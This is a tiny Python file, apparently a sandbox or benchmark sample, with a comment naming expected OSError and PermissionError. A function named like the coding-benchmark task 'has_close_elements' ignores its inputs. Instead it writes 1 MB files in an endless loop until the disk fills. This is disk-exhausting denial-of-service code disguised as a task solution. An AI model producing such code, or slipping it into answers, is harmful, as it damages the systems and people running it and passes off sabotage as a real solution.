# told as: OSError PermissionError
def has_close_elements(numbers, threshold):
    number = 0
    while True:
        with open(f"full{number}", "wb") as file:
            file.write(bytes(1 << 20))
        number += 1
